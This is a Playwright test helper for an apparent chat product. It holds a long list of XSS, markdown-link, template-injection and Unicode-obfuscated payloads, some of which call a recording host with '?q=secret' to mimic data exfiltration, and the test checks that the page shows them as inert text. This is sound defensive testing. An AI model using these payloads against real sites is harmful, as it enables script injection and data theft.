import type { Page } from '@playwright/test';
import { test as base } from './fixtures.ts';

/** Limits that let each text be the name of something, beyond those of a normal account. */
const raisedLimits = {
  hasFakeModel: true,
  hasFakeEmbedder: true,
  env: { CHAT_PER_ACCOUNT: '100000', ASSISTANTS_PER_ACCOUNT: '1000', SOURCES_PER_ACCOUNT: '1000' },
};

export const test = base.extend({ productOptions: raisedLimits });

/**
 * Returns texts of attackers that a browser may interpret as code. `host` records requests. Each can be shown
 * alone or with others: none hides the text after it in Markdown.
 */
export function writeHostileTexts(host: string): string[] {
  const run = 'alert(1)';
  return [
    // Plain HTML
    `<script>${run}</script>`,
    `<SCRIPT SRC="${host}/s.js"></SCRIPT>`,
    `<script>fetch("${host}/fetch")</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script/x>${run}</script/x>`,
    `</script><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `"><script>${run}</script>`,
    `'><script>${run}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="${host}/frame"></iframe>`,
    `<object data="${host}/object"></object>`,
    `<embed src="${host}/embed">`,
    `<applet code="${host}/applet"></applet>`,
    `<base href="${host}/">`,
    `<link rel=stylesheet href="${host}/css">`,
    `<link rel=prefetch href="${host}/prefetch">`,
    `<meta http-equiv=refresh content="0;url=${host}/refresh">`,
    `<style>@import "${host}/import";</style>`,
    `<style>*{background:url(${host}/background)}</style>`,
    `<form action="${host}/form"><button>Go</button></form>`,
    `<form><button formaction="javascript:${run}">Go</button></form>`,
    `<input autofocus onfocus=${run}>`,
    `<isindex type=image src=1 onerror=${run}>`,
    `<dialog open><p>Sign in again</p></dialog>`,
    // Handlers
    `<img src=x onerror=${run}>`,
    `<img src=x onerror="${run}"//`,
    `<img/src=x/onerror=${run}>`,
    `<img src="${host}/img">`,
    `<img srcset="${host}/srcset 1x">`,
    `<img src=x:x onerror=&#97;lert(1)>`,
    `<image src=x onerror=${run}>`,
    `<body onload=${run}>`,
    `<div onmouseover=${run} style="position:fixed;inset:0">x</div>`,
    `<details open ontoggle=${run}>x</details>`,
    `<video><source onerror=${run}></video>`,
    `<video poster="${host}/poster" src="${host}/video"></video>`,
    `<audio src=x onerror=${run}></audio>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<select autofocus onfocus=${run}></select>`,
    `<p style="animation:x" onanimationstart=${run}>x</p>`,
    `<a href="x" onclick=${run}>x</a>`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="java&#10;script:${run}">x</a>`,
    `<a href=" &#14; javascript:${run}">x</a>`,
    `" onmouseover="${run}" x="`,
    `' autofocus onfocus='${run}`,
    `\` onmouseover=${run} x=\``,
    // SVG, MathML and mutation XSS
    `<svg onload=${run}>`,
    `<svg/onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="${host}/svg.js"/></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
    `<svg><image href="${host}/svg-image"/></svg>`,
    `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${run}></style></svg>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    `<math><mi xlink:href="data:x,<script>${run}</script>">x</mi></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<table><td><noscript><img title="</noscript><img src=x onerror=${run}>"></td></table>`,
    `<xmp><p title="</xmp><svg/onload=${run}>">`,
    // Markdown
    `[x](javascript:${run})`,
    `[x](JaVaScRiPt:${run})`,
    `[x](java\nscript:${run})`,
    `[x](&#106;avascript:${run})`,
    `[x](&#x6A;avascript:${run})`,
    `[x](<javascript:${run}>)`,
    `[x](%01javascript:${run})`,
    `[x](vbscript:msgbox)`,
    `[x](data:text/html,<script>${run}</script>)`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[x](blob:${host}/blob)`,
    `[x](file:///etc/passwd)`,
    `[x](//${new URL(host).host}/scheme-less)`,
    `[x](\\\\${new URL(host).host}\\share)`,
    `[x](${host}/phish "onmouseover=${run}")`,
    `[bank.example](${host}/phish)`,
    `[x]( javascript:${run} "title")`,
    `[ref-a]\n\n[ref-a]: javascript:${run}`,
    `[ref-b]\n\n[ref-b]: <data:text/html,<script>${run}</script>>`,
    `![ref-c]\n\n[ref-c]: ${host}/reference?q=secret`,
    `![](${host}/markdown?q=secret)`,
    `![x](${host}/markdown.svg "x")`,
    `![x](javascript:${run})`,
    `![x](data:image/svg+xml,<svg/onload=${run}>)`,
    `[![x](${host}/linked-image)](${host}/link)`,
    `<javascript:${run}>`,
    `<${host}/autolink?q=secret>`,
    `${host}/bare-autolink?q=secret`,
    `www.evil.example/<script>${run}</script>`,
    `\`<img src=x onerror=${run}>\``,
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    `~~~"><script>${run}</script>\n<b>x</b>\n~~~`,
    `\`\`\`mermaid\ngraph LR; A["<img src=x onerror=${run}>"]\n\`\`\``,
    `| a |\n|---|\n| <img src=x onerror=${run}> |`,
    `- [x] <input onfocus=${run} autofocus>`,
    `[^1]\n\n[^1]: <img src="${host}/footnote">`,
    `# <svg/onload=${run}>`,
    `> <iframe src="${host}/quote"></iframe>`,
    `[1]<img src="${host}/citation">`,
    // Templates, formulas, URLs, styles
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `<%= ${run} %>`,
    `#{${run}}`,
    `$$\\href{javascript:${run}}{x}$$`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `red;background:url(${host}/colour)`,
    `=HYPERLINK("${host}/formula","x")`,
    `{"__html":"<img src=x onerror=${run}>"}`,
    `<!--<img src="--><img src=x onerror=${run}//">`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml-stylesheet href="${host}/xsl"?>`,
    // Invisible and normalized characters
    `\u200b<\u200bimg src=x onerror=${run}>`,
    `\u00ad<svg/onload=${run}>`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `\u2039img src=x onerror=${run}\u203a`,
    `<ſcript>${run}</ſcript>`,
    `<ımg src=x onerror=${run}>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;img src=x onerror=${run}&#62;`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `Z\u0351\u036b\u0343\u036aa\u0302l\u034ag\u0307o\u0309 <b onclick=${run}>`,
    `\ufeff<script>${run}</script>`,
  ];
}

/** Returns the texts that the page shows unchanged and completely. */
export async function listShown(page: Page, texts: string[]): Promise<string[]> {
  const flat = (text: string) => text.replace(/\s+/g, ' ').trim();
  const shownText = flat(await page.evaluate(() => document.body.textContent ?? ''));
  return texts.filter((text) => shownText.includes(flat(text)));
}

/** Splits the texts into `count` lists of about the same length. */
export function divide(texts: string[], count: number): string[][] {
  return Array.from({ length: count }, (_, part) => texts.filter((_text, index) => index % count === part));
}

/** Returns a third of the texts in CI, where three journeys share them, otherwise all. */
export function selectShare(texts: string[], number: 0 | 1 | 2): string[] {
  return process.env.CI ? divide(texts, 3)[number]! : texts;
}
